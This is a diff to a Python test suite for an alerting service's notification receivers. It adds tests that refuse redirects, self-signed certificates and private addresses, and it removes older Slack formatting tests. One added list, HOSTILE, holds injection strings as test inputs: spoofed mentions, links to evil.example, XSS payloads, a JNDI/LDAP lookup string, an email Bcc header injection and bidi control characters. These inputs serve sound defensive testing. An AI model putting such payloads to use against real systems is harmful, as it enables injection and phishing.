@@ -5,12 +5,13 @@ from __future__ import annotations
 import json
 import logging
 import socket
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from alerting.evidence import clean
 from alerting.mirror import AlertmanagerTarget
 from alerting.notifications import Notification
 from alerting.outcomes import Backoff, judge, parse_retry_after
@@ -19,14 +20,16 @@ from alerting.receivers.pagerduty import PagerDutyReceiver
 from alerting.receivers.signature import sign, verify
 from alerting.receivers.slack import SlackReceiver
 from alerting.receivers.slack_bot import SlackBotReceiver
-from alerting.receivers.slack_message import MAX_BLOCKS, MAX_TOTAL, fit, message
+from alerting.receivers.slack_message import size
 from alerting.receivers.teams import TeamsReceiver
 from alerting.receivers.templated import TemplatedReceiver
+from alerting.receivers.trust import PUBLIC_ONLY
 from alerting.receivers.webhook import WebhookReceiver
 from alerting.routing import Route
 from alerting.secret_references import SecretReference
 from telemetry.errors import ConfigError
-from tests.alerting.hook_server import drip, raw, silence, status
+from tests.alerting.hook_server import HookServer, TlsHookServer, drip, raw, silence, status
+from tests.alerting.mail_server import make_certificate
 from tests.alerting.makers import LOOPBACK, T0, finding, notification, run, set_up
 
 KEY = "0123456789abcdef"
@@ -65,6 +68,11 @@ def slack_bot(url, monkeypatch, deadline_s):
     monkeypatch.setenv("TEST_BOT", "xoxb-1")
     reference = SecretReference("env", "TEST_BOT")
     return SlackBotReceiver("oncall", reference, "C042", deadline_s=deadline_s, url=url, trust=LOOPBACK)
+
+
+@pytest.fixture(scope="module")
+def certificate(tmp_path_factory):
+    return make_certificate(tmp_path_factory.mktemp("tls"))
 
 
 @dataclass
@@ -174,6 +182,79 @@ def test_what_is_no_address_is_given_up(caller, url):
     assert caller(url).send(notification(), KEY, T0).kind == "permanent"
 
 
+@pytest.mark.parametrize("code", [301, 302, 303, 307, 308])
+def test_nobody_is_called_to_whom_an_answer_leads(caller, hook, code):
+    with HookServer() as elsewhere:
+        hook.otherwise = status(code, Location=elsewhere.url)
+        outcome = caller(hook.url).send(notification(), KEY, T0)
+        assert elsewhere.requests == []
+    assert (outcome.kind, outcome.reason) == (
+        "permanent", f"answered {code}: redirects are not followed, configure the address that it leads to",
+    )  # fmt: skip
+
+
+def test_whose_certificate_nobody_vouches_for_is_told_nothing_and_tried_again(caller, certificate):
+    with TlsHookServer(certificate) as server:
+        outcome = caller(server.url.replace("http://127.0.0.1", "https://localhost")).send(notification(), KEY, T0)
+        assert (outcome.kind, outcome.reason) == (
+            "transient", "could not be reached: TLS failed: its certificate is signed by itself",
+        )  # fmt: skip
+        assert server.requests == []
+
+
+def test_who_is_not_public_is_called_only_where_that_is_allowed(caller, hook):
+    made = caller(hook.url)
+    if isinstance(made, Mirrored):
+        made.target = replace(made.target, trust=PUBLIC_ONLY)
+    else:
+        made = replace(made, trust=PUBLIC_ONLY)
+    outcome = made.send(notification(), KEY, T0)
+    assert (outcome.kind, hook.requests) == ("transient", [])
+    assert "write allow_private: [127.0.0.1]" in outcome.reason
+
+
+HOSTILE = [
+    "<!channel> <!here|x> <@U024BE7LH> <https://evil.example|click>",
+    "@everyone @channel [click](https://evil.example) ![x](https://evil.example/x.png) `code` *bold* ~gone~",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;\"'",
+    "<at>everyone</at> {{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/x}",
+    "x\r\nBcc: eve@evil.example\r\n\r\n.\r\n",
+    "\u202egnp.exe\u2066\u200b\x00\x1b[31m\ud800",
+    "𝕏" * 60_000,
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=["slack", "markdown", "html", "teams", "lines", "invisible", "long"])
+def test_what_labels_hold_is_told_whole_by_every_receiver_and_means_nothing(make, hook, text):
+    """As alerting hands it on: cleaned of what no database and no JSON can hold."""
+    told = notification()
+    dirty = {
+        "incident": {
+            **told.incident, **dict.fromkeys(["title", "service", "slo"], text), "slice": {"x": text, text: "x"},
+        },
+        "evidence": {
+            **told.evidence, "summary": text,
+            "attribution": [{"dimension": text, "value": text, "bad": 1, "total": 2}] * 9,
+            "changes": [{"what": text, "before": text, "after": text}] * 9,
+        },
+        "alerts": [{**told.alerts[0], "name": text, "summary": text, "labels": {"alertname": text, "x": text}}],
+        "runbook": {**told.runbook, "title": text, "first_step": text},
+    }  # fmt: skip
+    hook.otherwise = status(200, SAID)
+    receiver = make(hook.url)
+    assert receiver.send(notification(**clean(dirty)), KEY, T0).kind == "delivered"
+    (sent,) = hook.requests
+    assert isinstance(sent.document, dict), "JSON, whatever is in it"
+    if isinstance(receiver, SlackReceiver | SlackBotReceiver):
+        shown = json.dumps([sent.document["text"], sent.document["blocks"][1:]])
+        assert "<" not in shown.replace("\\u003c", "<"), "no mention, no link"
+        assert size(sent.document["blocks"]) <= 12_000
+    if isinstance(receiver, TeamsReceiver):
+        (attachment,) = sent.document["attachments"]
+        assert {block["type"] for block in attachment["content"]["body"]} == {"RichTextBlock"}, "which reads no markup"
+        assert "entities" not in attachment["content"]["msteams"]
+
+
 def test_a_repeat_has_the_same_key_and_body_and_the_notification_is_left_alone(make, hook):
     receiver, told = make(hook.url), notification()
     before = told.to_json()
@@ -277,86 +358,6 @@ def test_tailwatchs_own_format(monkeypatch, hook):
     assert document["evidence"]["attribution"][0]["value"] == "acme"
     assert document["incident_url"] == "https://tailwatch.example.com/incidents?incident=INC-7"
     assert "x-tailwatch-signature" not in hook.requests[0].headers
-
-
-def test_slack_shows_facts_and_no_value_becomes_a_mention_or_a_link():
-    sent = message(notification())
-    text = json.dumps([sent["text"], sent["blocks"][1:]], ensure_ascii=False)  # the header is plain text
-    for dangerous in ("<!channel>", "<@U1", "<http"):
-        assert dangerous not in text
-    blocks = message(notification())["blocks"]
-    assert [block["type"] for block in blocks] == ["header", *["section"] * 5, "actions", "context"]
-    assert blocks[0]["text"]["text"].startswith("🔴 Page INC-7")
-    assert "Open a request." in text
-    assert blocks[-2]["elements"][0]["url"].endswith("incident=INC-7")
-    assert all(part.get("verbatim", True) for block in blocks for part in block.get("fields", ()))
-
-
-def test_slack_without_an_address_of_the_dashboard_has_no_buttons():
-    assert "actions" not in {block["type"] for block in message(notification(external_url=""))["blocks"]}
-
-
-def test_a_slack_channel_is_passed_on(monkeypatch, hook):
-    monkeypatch.setenv("TEST_HOOK", hook.url)
-    receiver = SlackReceiver("x", SecretReference("env", "TEST_HOOK"), channel="#inference", trust=LOOPBACK)
-    receiver.send(notification(), KEY, T0)
-    assert hook.requests[0].document["channel"] == "#inference"
-
-
-texts = st.one_of(st.text(max_size=40), st.sampled_from(["<&>" * 3000, "é" * 20_000, "\u202e\n# x", ""]))
-entries = st.lists(
-    st.dictionaries(
-        st.sampled_from(
-            ["dimension", "value", "bad", "total", "excess_share", "part", "before_s", "what", "text", "trace_id",
-             "error_type", "duration_s", "field", "effect", "long", "factor"]
-        ),
-        st.one_of(texts, st.floats(), st.integers(), st.none(), st.booleans()),
-    ),
-    max_size=8,
-)  # fmt: skip
-
-
-@settings(max_examples=50, deadline=None)
-@given(st.data())
-def test_slacks_limits_hold_whatever_there_is_to_say(data):
-    told = notification()
-    names = ("attribution", "tail", "changes", "exemplars", "drift", "burn")
-    evidence = {**told.evidence, "summary": data.draw(texts), **{name: data.draw(entries) for name in names}}
-    labels = data.draw(st.dictionaries(texts, texts, max_size=4))
-    incident = {**told.incident, "title": data.draw(texts), "slice": labels, "service": data.draw(texts)}
-    step = {**told.runbook, "first_step": data.draw(texts), "title": data.draw(texts)}
-    sent = message(notification(evidence=evidence, incident=incident, runbook=step))
-    assert len(sent["text"]) <= 3000
-    assert len(sent["blocks"]) <= 50
-    total = 0
-    for block in sent["blocks"]:
-        for text, limit in _texts_of(block):
-            assert 0 < len(text) <= limit
-            total += len(text)
-    assert total <= 13_000
-    assert "<" not in json.dumps(sent["blocks"][1:])
-
-
-def _texts_of(block):
-    if block["type"] == "header":
-        yield block["text"]["text"], 150
-    elif "fields" in block:
-        assert 0 < len(block["fields"]) <= 10
-        yield from ((field["text"], 2000) for field in block["fields"])
-    elif block["type"] == "section":
-        yield block["text"]["text"], 3000
-    elif block["type"] == "actions":
-        yield from ((button["text"]["text"], 75) for button in block["elements"])
-    else:
-        yield from ((element["text"], 3000) for element in block["elements"])
-
-
-def test_too_many_sections_give_way_and_the_frame_stays():
-    section = {"type": "section", "text": {"type": "mrkdwn", "text": "x" * 2500}}
-    frame = {"type": "context", "elements": [{"type": "mrkdwn", "text": "end"}]}
-    kept = fit([section] * 80 + [frame])
-    assert kept == [section] * (MAX_TOTAL // 2500) + [frame]
-    assert len(fit([{**section, "text": {"type": "mrkdwn", "text": "x"}}] * 80)) == MAX_BLOCKS
 
 
 def test_a_notification_survives_its_storage():
